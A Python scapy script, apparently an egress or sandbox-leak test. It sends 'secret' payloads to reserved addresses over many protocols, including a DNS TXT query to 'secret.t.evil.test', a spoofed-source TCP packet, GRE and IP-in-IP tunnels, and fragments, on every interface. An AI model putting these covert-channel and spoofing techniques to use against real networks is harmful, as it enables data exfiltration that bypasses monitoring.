"""Packets made by hand."""
import logging

logging.getLogger("scapy.runtime").setLevel(logging.CRITICAL)
from scapy.all import (ARP, DNS, DNSQR, GRE, ICMP, IP, SCTP, TCP, UDP, Ether, ICMPv6EchoRequest, IPv6, Raw, conf, fragment, get_if_list, send, sendp)

V4, V6, SECRET = "198.51.100.66", "2001:db8:66::66", Raw(b"secret-secret-secret")
QUESTION = DNS(rd=1, qd=DNSQR(qname="secret.t.evil.test", qtype="TXT"))
PACKETS = [
    IP(dst=V4) / ICMP() / SECRET,
    IP(dst=V4) / UDP(dport=443) / SECRET,
    IP(dst="203.0.113.53") / UDP(dport=53, sport=4053) / QUESTION,
    IP(dst=V4) / TCP(dport=7000, flags="S") / SECRET,
    IP(dst=V4, src="203.0.113.77") / TCP(dport=7000, flags="PA") / SECRET,
    IP(dst=V4) / GRE() / IP(dst="203.0.113.53") / ICMP(),
    IP(dst=V4) / SCTP(dport=7000) / SECRET,
    IP(dst=V4, proto=4) / IP(dst=V4) / ICMP(),
    IPv6(dst=V6) / ICMPv6EchoRequest() / SECRET,
    IPv6(dst=V6) / UDP(dport=53) / QUESTION,
    *fragment(IP(dst=V4) / UDP(dport=53) / (b"secret" * 400), 600),
]
conf.verb = 0
for packet in PACKETS:
    try:
        send(packet)
    except Exception as error:
        print(packet.summary(), error)
for link in get_if_list():
    for frame in [Ether(dst="ff:ff:ff:ff:ff:ff") / ARP(pdst=V4)] + [Ether() / packet for packet in PACKETS]:
        try:
            sendp(frame, iface=link)
        except Exception as error:
            print(link, frame.summary(), error)
